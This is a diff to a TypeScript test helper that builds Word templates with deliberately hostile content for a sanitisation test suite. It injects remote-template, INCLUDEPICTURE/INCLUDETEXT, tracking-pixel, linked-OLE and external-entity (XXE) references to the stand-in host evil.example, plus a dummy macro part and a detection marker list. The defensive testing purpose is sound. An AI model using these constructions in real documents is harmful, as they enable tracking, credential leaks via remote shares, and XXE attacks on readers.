@@ -93,3 +93,53 @@ export function assertWellFormed(xml: string): void {
   }
   if (stack.length) throw new Error(`unclosed: ${stack.join(' > ')}`);
 }
+
+/** What a hostile template carries (issue 15, hole 6). */
+export type HostileContent = 'attachedTemplate' | 'includePicture' | 'includeText' | 'externalImage' | 'externalOle' | 'doctype' | 'macros';
+export const HOSTILE_CONTENT: readonly HostileContent[] = ['attachedTemplate', 'includePicture', 'includeText', 'externalImage', 'externalOle', 'doctype', 'macros'];
+/** Where the hostile references point: none of these may appear in a printed document. */
+export const HOSTILE_MARKERS = ['evil.example', 'INCLUDEPICTURE', 'INCLUDETEXT', 'DOCTYPE', 'vbaProject', 'attachedTemplate', 'TargetMode="External"'];
+
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const rel = (id: string, type: string, target: string, external = true) =>
+  `<Relationship Id="${id}" Type="${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
+
+/** A shipped template with hostile content added, as a hostile or careless Word user could save it. */
+export async function hostileTemplate(base: Buffer, what: readonly HostileContent[]): Promise<Buffer> {
+  const zip = await JSZip.loadAsync(base);
+  const text = async (name: string) => zip.file(name)!.async('string');
+  let doc = await text('word/document.xml');
+  let docRels = await text('word/_rels/document.xml.rels');
+  const addRel = (r: string) => {
+    docRels = docRels.replace('</Relationships>', `${r}</Relationships>`);
+  };
+  const addParagraph = (p: string) => {
+    doc = doc.replace(/(<w:sectPr\b(?:(?!<w:sectPr\b)[\s\S])*<\/w:body>)/, `${p}$1`);
+  };
+  for (const w of what) {
+    if (w === 'attachedTemplate') {
+      zip.file('word/settings.xml', (await text('word/settings.xml')).replace(/(<w:settings\b[^>]*>)/, '$1<w:attachedTemplate r:id="rIdEvil1"/>'));
+      zip.file('word/_rels/settings.xml.rels', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('rIdEvil1', `${REL}/attachedTemplate`, 'http://evil.example/template.dotm')}</Relationships>`);
+    } else if (w === 'includePicture') {
+      addParagraph('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">PICTURE "http://evil.example/track.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>[картинка]</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>');
+    } else if (w === 'includeText') {
+      addParagraph('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\share\\\\text.docx&quot; "><w:r><w:t>[вставленный текст]</w:t></w:r></w:fldSimple></w:p>');
+    } else if (w === 'externalImage') {
+      addRel(rel('rIdEvil2', `${REL}/image`, 'http://evil.example/pixel.png'));
+      addParagraph('<w:p><w:r><w:pict><v:shape id="evil" style="width:1pt;height:1pt"><v:imagedata r:id="rIdEvil2" o:title=""/></v:shape></w:pict></w:r></w:p>');
+    } else if (w === 'externalOle') {
+      addRel(rel('rIdEvil3', `${REL}/oleObject`, 'file://evil.example/share/book.xlsx'));
+      addParagraph('<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="evil" DrawAspect="Content" r:id="rIdEvil3" UpdateMode="Always"/></w:object></w:r></w:p>');
+    } else if (w === 'doctype') {
+      const styles = await text('word/styles.xml');
+      zip.file('word/styles.xml', styles.replace(/^(<\?xml[^>]*\?>)/, '$1<!DOCTYPE w:styles [<!ENTITY evil SYSTEM "http://evil.example/entity">]>'));
+    } else if (w === 'macros') {
+      zip.file('word/vbaProject.bin', Buffer.from('\xd0\xcf\x11\xe0 not really a macro project', 'latin1'));
+      addRel(rel('rIdEvil4', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin', false));
+      zip.file('[Content_Types].xml', (await text('[Content_Types].xml')).replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'));
+    }
+  }
+  zip.file('word/document.xml', doc);
+  zip.file('word/_rels/document.xml.rels', docRels);
+  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
+}
